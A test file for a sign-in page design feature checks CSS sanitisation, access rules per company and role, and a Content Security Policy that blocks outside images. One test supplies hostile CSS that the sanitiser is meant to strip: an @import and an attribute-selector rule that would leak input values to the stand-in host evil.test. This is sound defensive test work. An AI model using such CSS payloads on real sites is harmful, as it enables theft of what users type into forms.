/**
 * The sign-in experience design: saved per domain (GraphQL and REST, with the logo sent only
 * when it changed), its CSS stored sanitised with the removals reported, walled per company and
 * role, and read by learners only on that verified domain (the texts, the logo, the stylesheet,
 * and a sign-in page whose CSP allows no outside images).
 */
import { encodeGlobalID } from '@pothos/plugin-relay';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../app.js';
import { contentSecurityPolicy } from '../../page-headers.js';
import { buildCompany, buildUser } from '../../test/factories.js';
import { createTestApp, type TestApp } from '../../test/harness.js';
import { blob, tinyPng } from '../profile/upload-fixtures.js';

let t: TestApp;
let appFetch: ReturnType<typeof createApp>['fetch'];
let A: Awaited<ReturnType<typeof buildCompany>>;
let B: Awaited<ReturnType<typeof buildCompany>>;
let member: string;
let domainId: string;
const HOST = 'learn.design-a.test';

beforeAll(async () => {
  t = await createTestApp();
  appFetch = createApp(t.deps).fetch;
  A = await buildCompany(t, { name: 'Acme' });
  B = await buildCompany(t);
  member = (await buildUser(t, { companyId: A.company.id, role: 'MEMBER' })).token;
  domainId = (await t.prisma.domain.create({ data: { companyId: A.company.id, name: HOST, domain: HOST, status: 'VERIFIED', verificationToken: 'a' } })).id;
  await t.prisma.domain.create({ data: { companyId: A.company.id, name: 'p.design-a.test', domain: 'p.design-a.test', verificationToken: 'b' } });
});
afterAll(() => t.close());

const SAVE = /* GraphQL */ `
  mutation ($input: SaveSignInDesignInput!) {
    saveSignInDesign(input: $input) {
      __typename
      ... on Error { message }
      ... on ValidationError { fieldErrors { field messages } }
      ... on SignInDesignPayload { message removed { what why } domain { signInDesign { companyName headingText subHeadingText css logoUrl } } }
    }
  }
`;
const READ = `query ($id: ID!) { node(id: $id) { ... on Domain { signInDesign { companyName headingText subHeadingText css logoUrl } } } }`;
const gid = (id: string) => encodeGlobalID('Domain', id);
const on = (host: string, path: string, init: RequestInit = {}) => appFetch(new Request(`http://${host}${path}`, init), { ip: '203.0.113.9' });

describe('saving a design', () => {
  it('stores the texts trimmed and the CSS sanitised, and says what was removed', async () => {
    const res = await t.gql(
      SAVE,
      {
        input: {
          domainId: gid(domainId),
          companyName: ' Acme Academy ',
          headingText: 'Welcome back',
          subHeadingText: 'Type your e-mail and we will mail you a link.',
          css: '@import "https://evil.test/x.css";\nh1 { color: #0e7c74 }\ninput[value^="a"] { background: url(https://evil.test/a) }',
        },
      },
      A.owner.token,
    );
    expect(res.data.saveSignInDesign).toEqual({
      __typename: 'SignInDesignPayload',
      message: 'Sign-in design saved.',
      removed: [
        { what: '@import "https://evil.test/x.css"', why: '@import loads another stylesheet' },
        {
          what: 'background: url(https://evil.test/a)',
          why: 'url() may only hold an inline PNG, GIF, JPEG or WebP image: anything else would load from elsewhere',
        },
      ],
      domain: {
        signInDesign: {
          companyName: 'Acme Academy',
          headingText: 'Welcome back',
          subHeadingText: 'Type your e-mail and we will mail you a link.',
          css: '.signin-design h1 { color: #0e7c74 }',
          logoUrl: null,
        },
      },
    });
  });

  it('refuses unreadable CSS and overlong texts, per field, and keeps the saved design', async () => {
    const bad = await t.gql(SAVE, { input: { domainId: gid(domainId), css: 'h1 { color: red' } }, A.owner.token);
    expect(bad.data.saveSignInDesign.__typename).toBe('ValidationError');
    expect(bad.data.saveSignInDesign.fieldErrors[0].field).toBe('css');
    expect(bad.data.saveSignInDesign.fieldErrors[0].messages[0]).toMatch(/^The CSS could not be read: .*\(line 1, column 1\)\.$/);
    const long = await t.gql(SAVE, { input: { domainId: gid(domainId), headingText: 'x'.repeat(201) } }, A.owner.token);
    expect(long.data.saveSignInDesign.fieldErrors).toEqual([{ field: 'headingText', messages: ['At most 200 characters.'] }]);
    const read = await t.gql(READ, { id: gid(domainId) }, A.owner.token);
    expect(read.data.node.signInDesign.headingText).toBe('Welcome back');
  });

  it('REST: reads and saves with details and css as JSON text; the logo is kept unless a new one is sent or removal asked', async () => {
    const form = new FormData();
    form.set('details', JSON.stringify({ company_name: 'Acme', heading_text: 'Hello', sub_heading_text: 'Sub' }));
    form.set('css', JSON.stringify('body { background: #fff }'));
    form.set('logo', blob(tinyPng(), 'image/png'), 'logo.png');
    const saved = await t.rest('PUT', `/domains/${domainId}/sign_in_page_design`, { token: A.owner.token, body: form });
    expect(saved.status).toBe(200);
    expect(saved.body).toMatchObject({
      details: { company_name: 'Acme', heading_text: 'Hello', sub_heading_text: 'Sub' },
      css: '.signin-design { background: #fff }',
      removed: [],
      message: 'Sign-in design saved.',
    });
    const logo: string = saved.body.logo;
    expect((await t.fetch(logo)).status).toBe(200);

    // Texts only: the logo stays.
    const texts = new FormData();
    texts.set('details', JSON.stringify({ company_name: 'Acme 2', heading_text: '', sub_heading_text: '' }));
    texts.set('css', JSON.stringify(''));
    expect((await t.rest('PUT', `/domains/${domainId}/sign_in_page_design`, { token: A.owner.token, body: texts })).body.logo).toBe(logo);
    expect(await t.rest('GET', `/domains/${domainId}/sign_in_page_design`, { token: A.owner.token })).toMatchObject({
      status: 200,
      body: { details: { company_name: 'Acme 2', heading_text: '', sub_heading_text: '' }, css: '', logo },
    });

    // Removal asked: the logo and its file go.
    const remove = new FormData();
    remove.set('remove_logo', 'true');
    const removedRes = await t.rest('PUT', `/domains/${domainId}/sign_in_page_design`, { token: A.owner.token, body: remove });
    expect(removedRes.body).toMatchObject({ logo: null });
    expect((await t.fetch(logo)).status).toBe(404);

    const notJson = new FormData();
    notJson.set('css', 'h1 { color: red }');
    const refused = await t.rest('PUT', `/domains/${domainId}/sign_in_page_design`, { token: A.owner.token, body: notJson });
    expect(refused).toMatchObject({ status: 422, body: { errors: { css: ['must be JSON text'] } } });
  });

  it("another company's domain is not found; a Member may read but not save", async () => {
    expect((await t.gql(SAVE, { input: { domainId: gid(domainId), headingText: 'x' } }, B.owner.token)).data.saveSignInDesign.__typename).toBe('NotFoundError');
    expect((await t.rest('GET', `/domains/${domainId}/sign_in_page_design`, { token: B.owner.token })).status).toBe(404);
    expect((await t.gql(SAVE, { input: { domainId: gid(domainId), headingText: 'x' } }, member)).data.saveSignInDesign.__typename).toBe('ForbiddenError');
    expect((await t.rest('GET', `/domains/${domainId}/sign_in_page_design`, { token: member })).status).toBe(200);
  });
});

describe('what learners get on the domain', () => {
  const HUB = `query ($s: String!) { hub(companySlug: $s) { signInDesign { companyName headingText subHeadingText logoUrl stylesheetUrl } } }`;
  const hubOn = async (host: string) =>
    (
      await (
        await on(host, '/graphql', {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify({ query: HUB, variables: { s: A.company.slug } }),
        })
      ).json()
    ).data.hub;

  it('the design and its stylesheet on the verified domain; nothing on the app address', async () => {
    await t.gql(SAVE, { input: { domainId: gid(domainId), companyName: 'Acme Academy', headingText: 'Hi', css: 'h1 { color: red }' } }, A.owner.token);
    const hub = await hubOn(HOST);
    expect(hub.signInDesign).toMatchObject({ companyName: 'Acme Academy', headingText: 'Hi', subHeadingText: '', logoUrl: null });
    expect(hub.signInDesign.stylesheetUrl).toMatch(/^\/sign-in-design\.css\?v=[0-9a-z]+$/);
    const sheet = await on(HOST, hub.signInDesign.stylesheetUrl);
    expect(sheet.status).toBe(200);
    expect(sheet.headers.get('content-type')).toBe('text/css; charset=utf-8');
    expect(sheet.headers.get('x-content-type-options')).toBe('nosniff');
    expect(await sheet.text()).toBe('.signin-design h1 { color: red }');

    expect((await hubOn('app.test')).signInDesign).toBeNull();
    expect((await t.fetch('/sign-in-design.css')).status).toBe(404);
    // A pending domain serves nothing at all.
    expect((await on('p.design-a.test', '/sign-in-design.css')).status).toBe(404);
  });

  it('the sign-in page allows images from this host only; other pages keep their policy', () => {
    const signIn = contentSecurityPolicy(`/${A.company.slug}/passwordless_sign_in`, HOST);
    expect(signIn).toContain("img-src 'self' data: blob:;");
    expect(signIn).not.toMatch(/img-src[^;]*http/);
    expect(signIn).toContain("style-src 'self';");
    expect(contentSecurityPolicy(`/${A.company.slug}`, HOST)).toContain("img-src 'self' data: blob: https: http:;");
    expect(contentSecurityPolicy(`/${A.company.slug}/hub/passwordless_sign_in`, HOST)).toContain('https: http:');
  });
});
